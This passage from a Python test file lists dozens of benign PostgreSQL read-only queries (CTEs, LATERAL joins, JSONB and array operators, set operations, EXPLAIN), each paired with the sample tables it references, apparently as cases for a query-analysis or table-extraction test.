        "WITH paid AS (SELECT * FROM orders WHERE status = 'paid'), "
        "per_customer AS (SELECT customer_id, sum(total) AS spent FROM paid "
        "GROUP BY customer_id) "
        "SELECT c.name, pc.spent FROM per_customer pc JOIN customers c ON c.id = pc.customer_id "
        "ORDER BY pc.spent DESC",
        "orders",
        "customers",
    ),
    _read(
        "WITH outer_cte AS (WITH inner_cte AS (SELECT id, total FROM orders) "
        "SELECT id FROM inner_cte WHERE total > 10) SELECT count(*) FROM outer_cte",
        "orders",
    ),
    _read(
        "WITH RECURSIVE days(d) AS (SELECT date '2024-01-01' UNION ALL "
        "SELECT d + 1 FROM days WHERE d < date '2024-01-10') "
        "SELECT d, (SELECT count(*) FROM orders o WHERE o.created_at::date = days.d) AS n "
        "FROM days",
        "orders",
    ),
    _read(
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) "
        "SELECT sum(i) FROM n",
    ),
    _read(
        "SELECT c.name, last.id, last.total FROM customers c CROSS JOIN LATERAL "
        "(SELECT o.id, o.total FROM orders o WHERE o.customer_id = c.id "
        "ORDER BY o.created_at DESC LIMIT 1) AS last",
        "customers",
        "orders",
    ),
    _read(
        "SELECT c.name, s.n FROM customers c LEFT JOIN LATERAL "
        "(SELECT count(*) AS n FROM orders o WHERE o.customer_id = c.id) s ON true",
        "customers",
        "orders",
    ),
    _read(
        "SELECT id, meta->>'channel' AS channel, meta->'coupon'->>'code' AS coupon FROM orders "
        "WHERE meta ? 'coupon' OR meta @> '{\"gift\": true}'",
        "orders",
    ),
    _read(
        "SELECT p.id, kv.key, kv.value FROM products p, jsonb_each_text(p.attrs) AS kv "
        "WHERE kv.key = 'color'",
        "products",
    ),
    _read(
        "SELECT c.id, jsonb_agg(jsonb_build_object('id', o.id, 'total', o.total) "
        "ORDER BY o.id) AS orders FROM customers c JOIN orders o ON o.customer_id = c.id "
        "GROUP BY c.id",
        "customers",
        "orders",
    ),
    _read(
        "SELECT name, jsonb_path_query_array(attrs, '$.sizes[*]') AS sizes FROM products "
        "WHERE attrs #>> '{color}' = 'red'",
        "products",
    ),
    _read(
        "SELECT name FROM customers WHERE 'vip' = ANY (tags) "
        "AND tags && ARRAY['eu']::text[] AND cardinality(tags) > 0",
        "customers",
    ),
    _read(
        "SELECT tag, count(*) FROM customers, unnest(tags) AS tag "
        "GROUP BY tag ORDER BY count(*) DESC, tag",
        "customers",
    ),
    _read(
        "SELECT day::date AS day, count(o.id) FROM generate_series(timestamptz '2024-01-01', "
        "timestamptz '2024-01-07', interval '1 day') AS day "
        "LEFT JOIN orders o ON o.created_at::date = day::date GROUP BY day ORDER BY day",
        "orders",
    ),
    _read("VALUES (1, 'one'), (2, 'two')"),
    _read(
        "SELECT v.label, c.name FROM (VALUES ('FR', 'France'), ('DE', 'Germany')) "
        "AS v(code, label) JOIN customers c ON c.country = v.code",
        "customers",
    ),
    _read(
        "SELECT name FROM customers UNION SELECT name FROM products ORDER BY name",
        "customers",
        "products",
    ),
    _read(
        "SELECT customer_id FROM orders WHERE status = 'paid' "
        "INTERSECT SELECT id FROM customers WHERE country = 'FR' "
        "EXCEPT SELECT customer_id FROM orders WHERE status = 'refunded'",
        "orders",
        "customers",
    ),
    _read(
        "SELECT DISTINCT ON (customer_id) customer_id, id, created_at FROM orders "
        "ORDER BY customer_id, created_at DESC",
        "orders",
    ),
    _read(
        "SELECT id, CASE WHEN total >= 50 THEN 'large' WHEN total >= 20 THEN 'medium' "
        "ELSE 'small' END AS size FROM orders",
        "orders",
    ),
    _read(
        "SELECT o.id::text, o.total::float8, o.created_at::date, CAST(i.quantity AS bigint), "
        "i.unit_price::int FROM orders o JOIN order_items i ON i.order_id = o.id",
        "orders",
        "order_items",
    ),
    _read(
        "SELECT c.name, (SELECT max(o.total) FROM orders o WHERE o.customer_id = c.id) AS best "
        "FROM customers c WHERE c.id IN (SELECT customer_id FROM orders WHERE total > 20) "
        "AND EXISTS (SELECT 1 FROM orders o2 WHERE o2.customer_id = c.id) "
        "AND c.id <> ALL (SELECT customer_id FROM orders WHERE status = 'refunded') "
        "GROUP BY c.id, c.name HAVING count(*) > (SELECT 0)",
        "customers",
        "orders",
    ),
    _read("TABLE products", "products"),
    _read("SELECT * FROM customer_revenue WHERE revenue > 0", "customer_revenue"),
    _read(
        "SELECT customer_id, sum(total) AS spent FROM orders GROUP BY customer_id "
        "HAVING sum(total) > 10 ORDER BY spent DESC LIMIT 5",
        "orders",
    ),
    _read(
        "SELECT date_trunc('month', created_at) AS month, count(*) FROM orders "
        "GROUP BY month ORDER BY month",
        "orders",
    ),
    _read(
        "SELECT lower(name), upper(email), split_part(email, '@', 2) AS domain, length(name), "
        "position('a' IN name), substring(name FROM 1 FOR 3), trim(both ' ' FROM name) "
        "FROM customers",
        "customers",
    ),
    _read(
        "SELECT name, similarity(name, 'Alice') AS score FROM customers "
        "ORDER BY score DESC LIMIT 3",
        "customers",
    ),
    _read(
        "SELECT count(*) FROM orders WHERE created_at >= now() - interval '30 days'",
        "orders",
    ),
    _read(
        "SELECT c.* FROM customers c WHERE NOT EXISTS "
        "(SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
        "customers",
        "orders",
    ),
    _read(
        "SELECT id, coalesce(meta->>'channel', 'unknown') AS channel, nullif(status, 'open'), "
        "greatest(total, 10), total BETWEEN 10 AND 40 AS mid, "
        "meta IS DISTINCT FROM NULL AS has_meta FROM orders",
        "orders",
    ),
    _read(
        "SELECT o.id, (SELECT string_agg(p.name, ', ' ORDER BY p.name) FROM order_items i "
        "JOIN products p ON p.id = i.product_id WHERE i.order_id = o.id) AS products "
        "FROM orders o ORDER BY o.id",
        "orders",
        "order_items",
        "products",
    ),
    _read(
        "SELECT i.order_id, p.name FROM order_items i FULL JOIN products p ON p.id = i.product_id",
        "order_items",
        "products",
    ),
    _read(
        "SELECT order_id, status, quantity FROM order_items "
        "JOIN (SELECT id AS order_id, status FROM orders) o USING (order_id)",
        "order_items",
        "orders",
    ),
    _read("SELECT ctid, id FROM orders WHERE id = $1", "orders", params=(1,)),
    _read("SELECT row_to_json(c) FROM customers c WHERE c.country = 'FR'", "customers"),
    _read("SELECT * FROM unnest(ARRAY['a', 'b']) WITH ORDINALITY AS t(letter, n) WHERE t.n > 1"),
    _read('SELECT x.a, x.b FROM jsonb_to_recordset(\'[{"a": 1, "b": "z"}]\') AS x(a int, b text)'),
    _read("SELECT current_date, current_user, session_user, now(), 1 + 1 AS two"),
    _read("SELECT * FROM orders WHERE id = ANY ($1::int[])", "orders", params=([1, 2],)),
    _read(
        "SELECT count(*) FROM orders TABLESAMPLE BERNOULLI (50) REPEATABLE (1)",
        "orders",
    ),
    _read(
        "SELECT id, total FROM orders ORDER BY total DESC NULLS LAST, id "
        "OFFSET 1 FETCH FIRST 2 ROWS ONLY",
        "orders",
    ),
    _read("SELECT xmlelement(name customer, name) FROM customers", "customers"),
    _read("EXPLAIN SELECT * FROM orders WHERE id = 1", "orders"),
    _read("SELECT 1;", params=()),
)
